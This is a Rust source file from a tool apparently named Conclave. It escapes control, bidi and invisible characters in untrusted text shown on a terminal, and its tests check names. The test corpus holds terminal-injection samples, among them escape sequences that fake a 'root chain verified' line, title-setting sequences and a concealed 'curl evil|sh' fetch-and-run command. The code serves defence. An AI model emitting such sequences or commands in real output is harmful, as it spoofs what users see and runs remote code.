//! Untrusted text shown to people, and names Conclave writes.
//!
//! Every string that comes from input (metadata, key requests, answers files, transcripts,
//! layouts, bundles, file names on removable media) and reaches a terminal, the terminal UI or a
//! report goes through [`show`] (one line) or [`show_lines`] (several lines). They show as
//! visible escapes everything a terminal or a reader could be fooled by:
//!
//! - C0 control characters and DEL (`\x1b`, `\x00`, `\x7f`; `\r`, and `\n`/`\t` on one line),
//!   so no escape sequence (cursor movement, erase line, OSC title set, conceal) is ever sent;
//! - C1 control characters U+0080-U+009F (`\u{9b}` is a one-character CSI on many terminals);
//! - bidi controls (U+061C, U+200E/F, U+202A-202E, U+2066-2069), which make "evil" read "live";
//! - zero-width and invisible characters (U+200B-200D, U+2060-2064, U+FEFF, U+00AD, U+034F,
//!   U+180E, Hangul fillers, tag characters U+E0000-E007F and every other Unicode format
//!   character), line and paragraph separators (U+2028/2029) and spaces other than U+0020;
//! - on one line, leading and trailing spaces and runs of three or more spaces (`\x20{70}`),
//!   which could push the rest of a name onto a line of its own.
//!
//! Escapes are written as `\xNN` (C0, DEL) or `\u{N}` (everything else), as Rust writes them.
//! A backslash is left as it is: a name containing the text `\x1b` shows as that text, which
//! cannot move the cursor either. Very long strings are cut visibly, with their length:
//! `aaaa... (100000 characters)`.
//!
//! The variants: [`show_message`] (an error or note quoting input, on one line, room for a
//! sentence), [`show_indented`] (a line Conclave laid out itself, keeping its indentation and
//! alignment), [`terminal_safe`] (the last guard over a command's whole output in `main.rs`).
//! HTML and Markdown outputs escape for their format on top of [`show`].
//!
//! Names that Conclave writes itself (people in answers files and in the roll call, keyholder
//! and witness names, key owners) are checked where they enter by [`check_name`].

use std::fmt::Write as _;

/// Characters of one-line text shown before it is cut (after escaping).
pub const MAX_SHOWN: usize = 200;

/// Characters of a one-line message (an error text quoting input) shown before it is cut.
pub const MAX_SHOWN_MESSAGE: usize = 1000;

/// Characters of multi-line text shown before it is cut (after escaping).
pub const MAX_SHOWN_LINES: usize = 16 * 1024;

/// Longest name (in characters) of a person or key owner that Conclave writes. 64 is more than
/// any real name needs, and keeps every screen line that shows one readable at 80 columns.
pub const MAX_NAME_CHARS: usize = 64;

/// Whether `c` is shown as an escape wherever it appears (on one line or several), but for
/// `\n` and `\t`, which [`show_lines`] keeps.
fn hidden(c: char) -> bool {
    let u = c as u32;
    c.is_control() // C0, DEL, C1
        || is_format(u)
        || matches!(u,
            0x2028 | 0x2029            // line / paragraph separator
            | 0x00A0 | 0x1680 | 0x2000..=0x200A | 0x202F | 0x205F | 0x3000 // spaces but U+0020
            | 0x034F                   // combining grapheme joiner (invisible)
            | 0x115F | 0x1160 | 0x3164 | 0xFFA0 // Hangul fillers (blank)
            | 0x2800                   // braille blank
            | 0xFE00..=0xFE0F          // variation selectors
            | 0xE0100..=0xE01EF        // variation selectors supplement
            | 0xFFFC | 0xFFFD          // object replacement, replacement character
        )
}

/// Unicode general category Cf (format characters): bidi controls, zero-width characters, soft
/// hyphen, tags and the rest (Unicode 15.1).
fn is_format(u: u32) -> bool {
    matches!(u,
        0x00AD | 0x0600..=0x0605 | 0x061C | 0x06DD | 0x070F | 0x0890 | 0x0891 | 0x08E2
        | 0x180E | 0x200B..=0x200F | 0x202A..=0x202E | 0x2060..=0x2064 | 0x2066..=0x206F
        | 0xFEFF | 0xFFF9..=0xFFFB | 0x110BD | 0x110CD | 0x13430..=0x1343F | 0x1BCA0..=0x1BCA3
        | 0x1D173..=0x1D17A
        | 0xE0000..=0xE007F // tag characters, the unassigned ones too
    )
}

fn escape(c: char, out: &mut String) {
    match c {
        '\n' => out.push_str("\\n"),
        '\t' => out.push_str("\\t"),
        '\r' => out.push_str("\\r"),
        c if (c as u32) < 0x20 || c == '\u{7f}' => {
            let _ = write!(out, "\\x{:02x}", c as u32);
        }
        c => {
            let _ = write!(out, "\\u{{{:x}}}", c as u32);
        }
    }
}

/// Untrusted text on one line: every control, bidi, invisible and line-breaking character as a
/// visible escape, leading/trailing spaces and long runs of spaces counted, cut after
/// [`MAX_SHOWN`] characters with the length of the whole. The one function for names, file
/// names, field values and error texts quoting input.
pub fn show(s: &str) -> String {
    show_max(s, MAX_SHOWN)
}

/// [`show`] with another limit (characters after escaping).
pub fn show_max(s: &str, max: usize) -> String {
    render(s, max, Spaces::Runs(3))
}

/// An error or note text that may quote input, on one line: [`show`] with room for a sentence
/// ([`MAX_SHOWN_MESSAGE`]). A newline smuggled into it cannot start a line of its own.
pub fn show_message(s: &str) -> String {
    show_max(s, MAX_SHOWN_MESSAGE)
}

/// Untrusted text of several lines (notes, descriptions): as [`show`], but `\n` and `\t` are
/// kept and spaces are left alone; cut after [`MAX_SHOWN_LINES`] characters.
pub fn show_lines(s: &str) -> String {
    render(s, MAX_SHOWN_LINES, Spaces::Kept)
}

/// A line Conclave composed (indentation and column alignment of its own) that may hold input:
/// the leading indentation is kept, the rest is shown as by [`show_message`] except that runs of
/// fewer than [`LONG_SPACE_RUN`] spaces are left for the alignment. For the terminal UI's review
/// and summary lines and the auditor's report (`transcript::display::clean`).
pub fn show_indented(s: &str) -> String {
    let rest = s.trim_start_matches(' ');
    let indent = &s[..s.len() - rest.len()];
    format!(
        "{indent}{}",
        render(rest, MAX_SHOWN_MESSAGE, Spaces::Runs(LONG_SPACE_RUN))
    )
}

/// Spaces in a row that [`show_indented`] counts (`\x20{N}`): more than any alignment
/// Conclave writes, fewer than a line's width.
pub const LONG_SPACE_RUN: usize = 8;

/// How [`render`] treats spaces and line breaks.
#[derive(Clone, Copy)]
enum Spaces {
    /// One line: leading/trailing spaces and runs of at least N spaces counted; `\n`, `\t`
    /// escaped.
    Runs(usize),
    /// Several lines: spaces, `\n` and `\t` kept.
    Kept,
}

fn render(s: &str, max: usize, spaces: Spaces) -> String {
    let (one_line, long_run) = match spaces {
        Spaces::Runs(n) => (true, n),
        Spaces::Kept => (false, usize::MAX),
    };
    // The common case: nothing to escape, short enough.
    let needs_work = s.chars().count() > max
        || s.chars()
            .any(|c| hidden(c) && !(!one_line && (c == '\n' || c == '\t')))
        || (one_line
            && (s.starts_with(' ') || s.ends_with(' ') || s.contains(&" ".repeat(long_run))));
    if !needs_work {
        return s.to_string();
    }
    let mut out = String::new();
    let mut shown = 0usize; // characters of `out`
    let chars: Vec<char> = s.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let before = out.len();
        let c = chars[i];
        if one_line && c == ' ' {
            let run = chars[i..].iter().take_while(|&&x| x == ' ').count();
            let edge = i == 0 || i + run == chars.len();
            if edge || run >= long_run {
                if run == 1 {
                    out.push_str("\\x20");
                } else {
                    let _ = write!(out, "\\x20{{{run}}}");
                }
            } else {
                out.push_str(&" ".repeat(run));
            }
            i += run;
        } else {
            if hidden(c) && (one_line || !(c == '\n' || c == '\t')) {
                escape(c, &mut out);
            } else {
                out.push(c);
            }
            i += 1;
        }
        shown += out[before..].chars().count();
        if shown > max {
            // Cut back to the limit on a character boundary that does not split an escape.
            out.truncate(before);
            let _ = write!(out, "... ({} characters)", chars.len());
            return out;
        }
    }
    out
}

/// A command's whole output (text or JSON) made safe for the terminal, the last guard before
/// standard output and standard error: every character [`show`] would escape, but for `\n` and
/// `\t`, is written as a JSON escape (`\u001b`, `\u202e`, surrogate pairs beyond U+FFFF). Text
/// stays readable; inside a JSON string the escape decodes to the same character, so JSON
/// output stays valid and exact. The places that quote input use [`show`] first (which also
/// keeps a name on its line); this catches what they missed.
pub fn terminal_safe(s: &str) -> std::borrow::Cow<'_, str> {
    if !s.chars().any(|c| hidden(c) && c != '\n' && c != '\t') {
        return std::borrow::Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 16);
    for c in s.chars() {
        if hidden(c) && c != '\n' && c != '\t' {
            let mut units = [0u16; 2];
            for u in c.encode_utf16(&mut units) {
                let _ = write!(out, "\\u{u:04x}");
            }
        } else {
            out.push(c);
        }
    }
    std::borrow::Cow::Owned(out)
}

/// Why a name cannot be written.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum NameError {
    /// Nothing, or only spaces.
    #[error("is empty")]
    Empty,
    /// More than [`MAX_NAME_CHARS`] characters.
    #[error("is {0} characters long, more than the {MAX_NAME_CHARS} allowed")]
    TooLong(usize),
    /// Starts or ends with a space.
    #[error("\"{}\" starts or ends with a space", show(.0))]
    Padded(String),
    /// A control, bidi, zero-width or other invisible character.
    #[error("\"{}\" contains a control, bidi or invisible character ({})", show(.0), show(&.1.to_string()))]
    Hidden(String, char),
}

/// Check a name Conclave writes (a person at the ceremony, a key owner): 1 to
/// [`MAX_NAME_CHARS`] printable characters, no control, bidi, zero-width or other invisible
/// character, no leading or trailing space. Callers add the file and field.
pub fn check_name(name: &str) -> Result<(), NameError> {
    if name.trim().is_empty() {
        return Err(NameError::Empty);
    }
    let n = name.chars().count();
    if n > MAX_NAME_CHARS {
        return Err(NameError::TooLong(n));
    }
    if let Some(c) = name.chars().find(|&c| hidden(c)) {
        return Err(NameError::Hidden(name.to_string(), c));
    }
    if name.starts_with(char::is_whitespace) || name.ends_with(char::is_whitespace) {
        return Err(NameError::Padded(name.to_string()));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What a terminal interprets or a reader cannot see; none of it may survive [`show`].
    fn dangerous(c: char) -> bool {
        hidden(c) || c == '\n' || c == '\t'
    }

    fn corpus() -> Vec<String> {
        let mut v: Vec<String> = [
            "\u{1b}[1A\u{1b}[2K\rVALID: root chain verified",
            "\u{1b}]0;owned\u{7}title",
            "\u{1b}]2;owned\u{1b}\\st",
            "\u{1b}[8mhidden sh -c \"curl evil|sh\"\u{1b}[0m",
            "\u{9b}31mred",
            "\u{9d}0;title\u{9c}",
            "nul\u{0}byte",
            "del\u{7f}",
            "bell\u{7}",
            "\u{202e}live",
            "a\u{2066}b\u{2069}c\u{200e}\u{200f}\u{61c}",
            "zero\u{200b}width\u{200c}\u{200d}\u{2060}\u{2061}\u{2064}\u{feff}",
            "soft\u{ad}hyphen",
            "tag\u{e0041}\u{e007f}\u{e0001}",
            "line\u{2028}para\u{2029}",
            "two\nlines",
            "tab\there",
            "   padded   ",
            "alice                                                                      - removed owner carol",
            "nb\u{a0}sp\u{3000}",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        v.push("x".repeat(100_000));
        v.push("\u{1b}".repeat(100_000));
        v.push("\u{e0041}".repeat(50_000));
        v
    }

    #[test]
    fn nothing_a_terminal_interprets_survives_one_line() {
        for s in corpus() {
            let out = show(&s);
            assert!(
                !out.chars().any(dangerous),
                "{:?} -> {:?}",
                &s[..s.len().min(40)],
                out
            );
            assert!(!out.contains("  \u{20}"), "{out:?}");
            assert!(out.chars().count() <= MAX_SHOWN + 40, "{}", out.len());
        }
    }

    #[test]
    fn several_lines_keep_newlines_and_tabs_only() {
        for s in corpus() {
            let out = show_lines(&s);
            assert!(
                !out.chars().any(hidden_but_layout),
                "{:?} -> {:?}",
                &s[..s.len().min(40)],
                out
            );
        }
        assert_eq!(show_lines("a\nb\tc\r"), "a\nb\tc\\r");
    }

    fn hidden_but_layout(c: char) -> bool {
        hidden(c) && c != '\n' && c != '\t'
    }

    #[test]
    fn escapes_read_like_rust() {
        assert_eq!(show("\u{1b}[2Kx"), "\\x1b[2Kx");
        assert_eq!(show("\u{202e}live"), "\\u{202e}live");
        assert_eq!(show("a\u{9b}b"), "a\\u{9b}b");
        assert_eq!(show("a\nb\tc\r\0"), "a\\nb\\tc\\r\\x00");
        assert_eq!(show("\u{7f}"), "\\x7f");
        assert_eq!(show("z\u{200b}w"), "z\\u{200b}w");
        assert_eq!(show("t\u{e0041}"), "t\\u{e0041}");
    }

    #[test]
    fn ordinary_text_is_unchanged() {
        for s in [
            "alice",
            "Zoë Ñúñez-O'Brien",
            "李小龍",
            "targets/project.x_1",
            "two words",
            "a  b",
            "C:\\not\\escaped",
            "",
        ] {
            assert_eq!(show(s), s);
        }
        assert_eq!(show_lines("a\n  indented\n"), "a\n  indented\n");
    }

    #[test]
    fn spaces_that_could_fake_a_line_are_counted() {
        assert_eq!(show(" alice"), "\\x20alice");
        assert_eq!(show("alice  "), "alice\\x20{2}");
        assert_eq!(
            show(&format!("alice{}- removed owner carol", " ".repeat(70))),
            "alice\\x20{70}- removed owner carol"
        );
    }

    #[test]
    fn composed_lines_keep_their_indentation_and_alignment() {
        assert_eq!(
            show_indented("    + added   owner dave"),
            "    + added   owner dave"
        );
        assert_eq!(
            show_indented(&format!("  + added   owner m{}- removed", " ".repeat(70))),
            "  + added   owner m\\x20{70}- removed"
        );
        assert_eq!(show_indented("  \u{1b}[2K"), "  \\x1b[2K");
    }

    #[test]
    fn long_text_is_cut_with_its_length() {
        let out = show(&"x".repeat(100_000));
        assert!(out.ends_with("... (100000 characters)"), "{out}");
        assert!(out.starts_with(&"x".repeat(MAX_SHOWN)));
        let out = show(&"\u{1b}".repeat(1000));
        assert!(out.ends_with("... (1000 characters)"), "{out}");
        assert!(out.starts_with("\\x1b\\x1b"));
        // An escape is never split by the cut.
        assert!(
            out.trim_end_matches("... (1000 characters)")
                .ends_with("\\x1b")
        );
        assert_eq!(show(&"y".repeat(MAX_SHOWN)), "y".repeat(MAX_SHOWN));
    }

    #[test]
    fn the_last_guard_keeps_json_exact() {
        for s in corpus() {
            let out = terminal_safe(&s);
            assert!(!out.chars().any(hidden_but_layout), "{out:?}");
            let json = serde_json::to_string(&s).unwrap();
            let back: String = serde_json::from_str(&terminal_safe(&json)).unwrap();
            assert_eq!(back, s);
        }
        assert_eq!(terminal_safe("a\u{1b}[1Ab\n"), "a\\u001b[1Ab\n");
        assert_eq!(terminal_safe("t\u{e0041}"), "t\\udb40\\udc41");
        assert!(matches!(
            terminal_safe("plain\n"),
            std::borrow::Cow::Borrowed(_)
        ));
    }

    #[test]
    fn names_are_checked() {
        assert_eq!(check_name("alice"), Ok(()));
        assert_eq!(check_name("Zoë Ñúñez-O'Brien"), Ok(()));
        assert_eq!(check_name(""), Err(NameError::Empty));
        assert_eq!(check_name("   "), Err(NameError::Empty));
        assert_eq!(
            check_name(" alice"),
            Err(NameError::Padded(" alice".into()))
        );
        assert_eq!(
            check_name("alice "),
            Err(NameError::Padded("alice ".into()))
        );
        assert_eq!(check_name(&"a".repeat(65)), Err(NameError::TooLong(65)));
        assert_eq!(check_name(&"a".repeat(64)), Ok(()));
        for bad in [
            "a\u{1b}[2K",
            "a\u{0}",
            "a\u{7f}",
            "a\u{9b}",
            "\u{202e}evil",
            "a\u{200b}b",
            "a\u{feff}",
            "a\nb",
            "a\tb",
            "a\u{2028}",
            "a\u{e0041}",
            "a\u{a0}b",
        ] {
            let e = check_name(bad).unwrap_err();
            assert!(matches!(e, NameError::Hidden(..)), "{bad:?}: {e:?}");
            let msg = e.to_string();
            assert!(!msg.chars().any(dangerous), "{msg:?}");
        }
    }
}
